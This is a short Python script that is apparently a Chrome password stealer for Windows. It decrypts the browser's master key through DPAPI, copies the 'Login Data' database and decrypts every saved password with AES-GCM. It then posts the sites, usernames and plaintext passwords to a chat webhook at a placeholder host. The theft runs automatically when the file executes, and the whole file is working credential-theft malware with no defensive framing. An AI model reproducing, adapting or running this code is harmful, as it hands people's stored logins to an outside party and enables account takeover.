import base64, json, os, shutil, sqlite3
from urllib import request

ROOT = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data")
HOOK = "https://chat.invalid/api/webhooks/11/aa"


def master():
    import win32crypt
    with open(os.path.join(ROOT, "Local State"), encoding="utf-8") as f:
        key = base64.b64decode(json.load(f)["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(key, None, None, None, 0)[1]


def rows():
    from Crypto.Cipher import AES
    shutil.copy2(os.path.join(ROOT, "Default", "Login Data"), "lv.db")
    for url, user, enc in sqlite3.connect("lv.db").execute("select origin_url, username_value, password_value from logins"):
        yield url, user, AES.new(master(), AES.MODE_GCM, enc[3:15]).decrypt(enc[15:])[:-16].decode()


def run():
    text = "\n".join(" ".join(r) for r in rows())
    request.urlopen(request.Request(HOOK, json.dumps({"content": text}).encode(), {"Content-Type": "application/json"}))


if os.path.isdir(ROOT):
    run()
